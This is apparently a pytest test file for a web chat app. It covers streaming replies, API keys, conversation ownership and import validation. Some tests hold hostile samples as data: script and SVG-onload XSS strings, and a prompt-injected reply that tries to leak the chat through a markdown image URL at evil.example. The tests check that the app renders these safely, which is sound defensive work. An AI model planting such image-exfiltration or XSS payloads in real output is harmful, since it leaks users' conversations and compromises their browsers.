"""The chat over plain HTTP against a real server: sending, the SSE stream, ownership, bad input."""

from __future__ import annotations

import base64
import contextlib
import datetime
import hashlib
import json
import re
from collections.abc import Iterator

import httpx
import pytest

from kernel.models import RequestLog, Token, User
from tests.webapp.chat.deployment import start_deployment
from webapp.chat import free_tier
from webapp.models import Conversation, Message, PromptShortcut


def csrf_of(page: str) -> str:
    return re.search(r'"X-CSRFToken": "([^"]+)"', page).group(1)


@pytest.fixture(scope="module")
def chat_app(tmp_path_factory):
    yield from start_deployment(tmp_path_factory)


@pytest.fixture
def client(chat_app):
    with httpx.Client(base_url=chat_app.url, timeout=15) as c:
        page = c.get("/")
        assert page.status_code == 200
        c.headers.update({"X-CSRFToken": csrf_of(page.text), "HX-Request": "true"})
        yield c


def read_stream(client: httpx.Client, url: str) -> list[tuple[str, str]]:
    events, name, data = [], "message", []
    with client.stream("GET", url) as resp:
        for line in resp.iter_lines():
            if line.startswith("event:"):
                name = line[6:].strip()
            elif line.startswith("data:"):
                data.append(line[5:].removeprefix(" "))
            elif line == "":
                if data or name != "message":
                    events.append((name, "\n".join(data)))
                name, data = "message", []
    return events


def test_free_visitor_gets_a_streamed_markdown_reply(chat_app, client):
    chat_app.upstream.replies.append("Hello **world** and <script>alert(1)</script>")
    sent = client.post("/chat/send", data={"content": "Hi there", "model": "gpt-4o-mini"})
    assert sent.status_code == 200, sent.text
    assert "Hi there" in sent.text and sent.headers["HX-Push-Url"].startswith("/c/")
    url = re.search(r'sse-connect="([^"]+)"', sent.text).group(1)
    events = read_stream(client, url)
    names = [n for n, _ in events]
    assert names[-2:] == ["final", "done"], names
    final = events[-2][1]
    assert "<strong>world</strong>" in final and "&lt;script&gt;" in final and "<script>" not in final
    assert "sse-connect" not in final and "status-done" in final
    # A reconnect (same URL) starts nothing: it gets the finished message and closes.
    before = chat_app.upstream.started
    again = read_stream(client, url)
    assert [n for n, _ in again] == ["final", "done"]
    assert chat_app.upstream.started == before


def test_a_reply_cannot_embed_an_image_from_another_site(chat_app, client):
    """A prompt-injected reply must not send the chat to another site through an image URL."""
    chat_app.upstream.replies.append("Done. ![the chat](https://evil.example/leak.png?q=secret) "
                                     "![ours](/static/logo.png) [![nested](https://evil.example/n.png)](/pricing)")
    sent = client.post("/chat/send", data={"content": "my secret", "model": "gpt-4o-mini"})
    events = read_stream(client, stream_url(sent.text))
    conv = Conversation.select().order_by(Conversation.id.desc()).first()
    for html in ("".join(data for _, data in events), client.get(f"/c/{conv.id}").text):
        assert set(re.findall(r"<img [^>]*>", html)) == {'<img src="/static/logo.png" alt="ours">'}
        assert '<a href="https://evil.example/leak.png?q=secret" rel="noopener noreferrer nofollow">the chat</a>' in html
        assert "nested" in html


PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


@contextlib.contextmanager
def new_client(chat_app) -> Iterator[httpx.Client]:
    """A new visitor (own cookies), ready to send htmx requests."""
    with httpx.Client(base_url=chat_app.url, timeout=15) as c:
        c.headers.update({"X-CSRFToken": csrf_of(c.get("/").text), "HX-Request": "true"})
        yield c


def stream_url(html: str) -> str:
    return re.search(r'sse-connect="([^"]+)"', html).group(1)


def unlock(client: httpx.Client, key: str) -> httpx.Response:
    return client.post("/chat/key", data={"key": key})


def test_forged_ticket_is_refused(client):
    assert client.get("/chat/stream/not-a-ticket").status_code == 404


def test_stop_before_the_stream_starts_means_no_generation(chat_app, client):
    sent = client.post("/chat/send", data={"content": "never mind", "model": "gpt-4o-mini"})
    reply_id = int(re.findall(r'id="msg-(\d+)"', sent.text)[-1])
    before = chat_app.upstream.started
    assert client.post(f"/chat/m/{reply_id}/stop").status_code == 204
    events = read_stream(client, stream_url(sent.text))
    assert [n for n, _ in events] == ["final", "done"] and "stopped" in events[0][1]
    assert chat_app.upstream.started == before
    assert Message.get_by_id(reply_id).status == "stopped"


def test_images_go_to_vision_models_only(chat_app):
    with new_client(chat_app) as c:
        image = {"images": ("dot.png", PNG, "image/png")}
        refused = c.post("/chat/send", data={"content": "what is this?", "model": "gpt-4o-mini"}, files=image)
        assert refused.headers["HX-Retarget"] == "#composer-notice" and "free tier cannot send images" in refused.text
        unlock(c, chat_app.key)
        refused = c.post("/chat/send", data={"content": "what is this?", "model": "o-tiny"}, files=image)
        assert "o-tiny cannot read images" in refused.text
        fake = c.post("/chat/send", data={"content": "x", "model": "gpt-4o"},
                      files={"images": ("evil.png", b"<svg onload=alert(1)>", "image/png")})
        assert "is not a PNG, JPEG, GIF or WebP image" in fake.text
        sent = c.post("/chat/send", data={"content": "what is this?", "model": "gpt-4o"}, files=image)
        assert sent.status_code == 200 and 'src="data:image/png;base64,' in sent.text
        read_stream(c, stream_url(sent.text))
        body = chat_app.upstream.requests[-1]["body"]
        parts = body["messages"][-1]["content"]
        assert parts[0] == {"type": "text", "text": "what is this?"}
        assert parts[1]["image_url"]["url"].startswith("data:image/png;base64,")


def test_pasted_key_pays_and_is_never_in_a_page(chat_app):
    with new_client(chat_app) as c:
        bad = unlock(c, "sk-wrong")
        assert "not valid" in bad.text and "sk-wrong" not in bad.text
        ok = unlock(c, chat_app.key)
        assert "$" in ok.text and chat_app.key not in ok.text
        assert 'id="model-picker" hx-swap-oob="true"' in ok.text
        chat_app.upstream.replies.append("Paid.")
        sent = c.post("/chat/send", data={"content": "bill my key", "model": "gpt-4o"})
        read_stream(c, stream_url(sent.text))
        token = Token.get(Token.key_hash == hashlib.sha256(chat_app.key.encode()).hexdigest())
        reply = Message.select().order_by(Message.id.desc()).first()
        assert reply.content == "Paid." and reply.cost_quota > 0
        log = RequestLog.select().where(RequestLog.token_id == token.id).order_by(RequestLog.id.desc()).first()
        assert log is not None and log.model == "gpt-4o"
        assert chat_app.key not in c.get("/").text
        models = c.get("/chat/models").json()
        assert models["source"] == "key" and all(m["allowed"] for m in models["models"])
        c.post("/chat/key/forget")
        assert c.get("/chat/models").json()["source"] == "free"


def test_logged_in_user_chats_with_the_default_key(chat_app):
    with new_client(chat_app) as c:
        login = c.post("/login", data={"email": chat_app.user_email, "password": chat_app.password},
                       headers={"HX-Request": ""})
        assert login.status_code in (200, 303), login.text[:300]
        page = c.get("/").text
        assert chat_app.user_email in page and 'class="balance"' in page
        chat_app.upstream.replies.append("Hello, member.")
        sent = c.post("/chat/send", data={"content": "hi", "model": "gpt-4o"})
        read_stream(c, stream_url(sent.text))
        user = User.by_email(chat_app.user_email)
        default = Token.get((Token.user == user) & (Token.is_default == True))  # noqa: E712
        assert RequestLog.select().where(RequestLog.token_id == default.id).count() == 1
        conv = Conversation.select().order_by(Conversation.id.desc()).first()
        assert conv.user_id == user.id and conv.visitor_id == ""


def test_conversation_management_and_ownership(chat_app, client):
    sent = client.post("/chat/send", data={"content": "manage me", "model": "gpt-4o-mini",
                                           "system_prompt": "Be brief.", "temperature": "0.3",
                                           "max_tokens": "50", "context_messages": "2"})
    read_stream(client, stream_url(sent.text))
    conv = Conversation.select().order_by(Conversation.id.desc()).first()
    assert (conv.system_prompt, conv.temperature, conv.max_tokens, conv.context_messages) == ("Be brief.", 0.3, 50, 2)
    body = chat_app.upstream.requests[-1]["body"]
    assert body["messages"][0] == {"role": "system", "content": "Be brief."}
    assert body["temperature"] == 0.3 and body["max_tokens"] == 50
    bad = client.post(f"/chat/c/{conv.id}/settings", data={"model": "gpt-4o-mini", "temperature": "hot"})
    assert "Temperature: hot is not a number." in bad.text
    renamed = client.post(f"/chat/c/{conv.id}/rename", data={"title": "  <i>Renamed</i>  "})
    assert "&lt;i&gt;Renamed&lt;/i&gt;" in renamed.text and "<i>Renamed" not in renamed.text
    assert "title cannot be empty" in client.post(f"/chat/c/{conv.id}/rename", data={"title": " "}).text
    saved = client.post("/chat/shortcuts", data={"shortcut_name": "Brief", "system_prompt": "Be brief."})
    assert ">Brief</option>" in saved.text and PromptShortcut.select().count() >= 1
    # Another visitor can neither see nor touch it.
    with new_client(chat_app) as other:
        assert other.get(f"/c/{conv.id}").status_code == 404
        assert other.post(f"/chat/c/{conv.id}/delete").status_code == 404
        assert other.get(f"/chat/c/{conv.id}/export").status_code == 404
        assert "manage me" not in other.get("/chat/export").text
    exported = client.get(f"/chat/c/{conv.id}/export").json()
    assert exported["conversations"][0]["title"] == "<i>Renamed</i>"
    assert client.post(f"/chat/c/{conv.id}/delete").headers["HX-Redirect"] == "/"
    assert Conversation.get_or_none(Conversation.id == conv.id) is None
    assert Message.select().where(Message.conversation == conv.id).count() == 0


@pytest.mark.parametrize("payload, message", [
    (b"[1, 2]", "not a permachat export"),
    (b'{"format": "permachat.conversations", "conversations": [{"messages": [{"role": "wizard"}]}]}',
     "Conversation 1 has a message without a valid role"),
    (b'{"format": "permachat.conversations", "conversations": [{"temperature": 9, "messages": []}]}',
     "Temperature must be between 0 and 2"),
])
def test_import_refuses_bad_files_whole(client, payload, message):
    before = Conversation.select().count()
    resp = client.post("/chat/import", files={"file": ("x.json", payload, "application/json")})
    assert message in resp.text and resp.headers["HX-Retarget"] == "#import-notice"
    assert Conversation.select().count() == before


PNG_URL = "data:image/png;base64," + base64.b64encode(PNG).decode()


def exported(attachments) -> bytes:
    return json.dumps({"format": "permachat.conversations", "conversations": [{"title": "pic", "messages": [
        {"role": "user", "content": "look", "attachments": attachments}]}]}).encode()


@pytest.mark.parametrize("attachments", [
    [{"type": "image"}], [{"type": "image", "url": 5}], [{"type": "image", "url": "https://evil.example/x.png"}],
    [{"type": "image", "url": "data:text/html;base64,PGI+"}], [{"type": "image", "url": PNG_URL, "name": ["x"]}],
    ["just text"], {"type": "image", "url": PNG_URL}, [{"type": "image", "url": PNG_URL}] * 5,
])
def test_import_refuses_a_malformed_attachment_with_a_clear_message(client, attachments):
    before = Conversation.select().count()
    resp = client.post("/chat/import", files={"file": ("x.json", exported(attachments), "application/json")})
    assert "Conversation 1, message 1:" in resp.text and resp.headers["HX-Retarget"] == "#import-notice"
    assert Conversation.select().count() == before
    zh = client.post("/chat/import", files={"file": ("x.json", exported(attachments), "application/json")},
                     headers={"Accept-Language": "zh-CN"})
    assert "第 1 个对话的第 1 条消息" in zh.text


def test_imported_numbers_and_dates_out_of_range_do_not_break_the_import(client):
    document = {"format": "permachat.conversations", "conversations": [{
        "title": "odd", "created_at": "9999-12-31T23:59:59-01:00", "messages": [
            {"role": "assistant", "content": "hi", "prompt_tokens": 10**30, "cost_quota": 1e400,
             "completion_tokens": "1" * 40, "created_at": "0001-01-01T00:00:00+01:00",
             "attachments": [{"type": "image", "url": PNG_URL, "name": "dot.png"}]}]}]}
    payload = json.dumps(document).replace("Infinity", "1e400").encode()
    resp = client.post("/chat/import", files={"file": ("x.json", payload, "application/json")})
    assert resp.status_code == 200 and "odd" in resp.text
    conv = Conversation.select().order_by(Conversation.id.desc()).first()
    assert client.get(f"/c/{conv.id}").status_code == 200


def test_a_stored_malformed_attachment_still_shows_its_conversation(client):
    """Rows imported before attachments were checked can hold anything: the page shows, without them."""
    client.post("/chat/import", files={"file": ("x.json", exported([]), "application/json")})
    conv = Conversation.select().order_by(Conversation.id.desc()).first()
    Message.update(attachments=[{"type": "image"}, {"type": "image", "url": 5}, "text", None,
                                {"type": "image", "url": PNG_URL, "name": "dot.png"}]).where(
        Message.conversation == conv.id).execute()
    page = client.get(f"/c/{conv.id}")
    assert page.status_code == 200 and "look" in page.text
    assert page.text.count("<img ") == 1 and f'src="{PNG_URL}"' in page.text


def test_empty_and_locked_sends_say_why(chat_app, client):
    assert "Write a message first." in client.post("/chat/send", data={"content": "  ", "model": "gpt-4o-mini"}).text
    locked = client.post("/chat/send", data={"content": "locked hi", "model": "gpt-4o"})
    assert "This model is not free" in locked.text
    free_tier.write_config({"free_max_context": 5})
    try:
        long = client.post("/chat/send", data={"content": "a fairly long message for five tokens", "model": "gpt-4o-mini"})
        assert "too long for the free tier" in long.text
    finally:
        free_tier.write_config({"free_max_context": 2000})
    assert Conversation.select().where(Conversation.title == "locked hi").count() == 0


def test_reconnect_watches_the_running_generation_and_never_starts_another(chat_app, client):
    chat_app.upstream.delay = 0.03
    chat_app.upstream.replies.append(" ".join(f"w{i}" for i in range(60)))
    try:
        started = chat_app.upstream.started
        sent = client.post("/chat/send", data={"content": "long one", "model": "gpt-4o-mini"})
        url = stream_url(sent.text)
        with client.stream("GET", url) as first:
            for line in first.iter_lines():
                if line.startswith("event: tail"):
                    break  # the page goes away mid-reply
        again = read_stream(client, url)  # what the SSE extension does on reconnect
        names = [n for n, _ in again]
        assert names[0] == "snapshot" and names[-2:] == ["final", "done"]
        assert "w59" in again[-2][1]
        assert chat_app.upstream.started == started + 1
    finally:
        chat_app.upstream.delay = 0.0


def test_stop_asked_through_the_database_reaches_the_generation(chat_app, client):
    # What a Stop handled by another worker looks like: only the row says "stopping".
    from webapp.chat import conversations

    chat_app.upstream.delay = 0.05
    chat_app.upstream.replies.append(" ".join(f"w{i}" for i in range(200)))
    try:
        sent = client.post("/chat/send", data={"content": "stop me elsewhere", "model": "gpt-4o-mini"})
        reply_id = int(re.findall(r'id="msg-(\d+)"', sent.text)[-1])
        events = []
        with client.stream("GET", stream_url(sent.text)) as resp:
            for line in resp.iter_lines():
                if line.startswith("event:"):
                    events.append(line[6:].strip())
                    if events.count("tail") == 3:
                        assert conversations.request_stop(Message.get_by_id(reply_id))
        row = Message.get_by_id(reply_id)
        assert row.status == "stopped" and 0 < len(row.content.split()) < 200
        assert events[-2:] == ["final", "done"]
    finally:
        chat_app.upstream.delay = 0.0


@pytest.mark.parametrize("change, message", [
    ({"expires_at": datetime.datetime(2020, 1, 1)}, "This API key has expired."),
    ({"unlimited": False, "remain_quota": 0}, "This key has no balance left."),
    ({"status": "disabled"}, "This API key is disabled."),
])
def test_unusable_keys_say_why_in_place(chat_app, change, message):
    import accounts

    user = User.by_email(chat_app.user_email)
    new = accounts.create_token(user, name="soon unusable")
    Token.update(**change).where(Token.id == new.token.id).execute()
    with new_client(chat_app) as c:
        panel = unlock(c, new.key)
        assert message in panel.text and 'class="key-error"' in panel.text
        assert c.get("/chat/models").json()["source"] == "free"


def test_a_long_reply_is_saved_while_it_streams(chat_app, client, monkeypatch):
    # A crash mid-reply must not lose what was already written.
    from webapp.chat import stream as chat_stream

    monkeypatch.setattr(chat_stream, "CHECKPOINT_SECONDS", 0.3)
    chat_app.upstream.delay = 0.05
    chat_app.upstream.replies.append(" ".join(f"w{i}" for i in range(60)))
    try:
        sent = client.post("/chat/send", data={"content": "write slowly", "model": "gpt-4o-mini"})
        reply_id = int(re.findall(r'id="msg-(\d+)"', sent.text)[-1])
        partial = ""
        with client.stream("GET", stream_url(sent.text)) as resp:
            for _ in resp.iter_lines():
                row = Message.get_by_id(reply_id)
                if row.status == "streaming" and row.content:
                    partial = row.content
                    break
        assert partial.startswith("w0 w1") and "w59" not in partial
    finally:
        chat_app.upstream.delay = 0.0
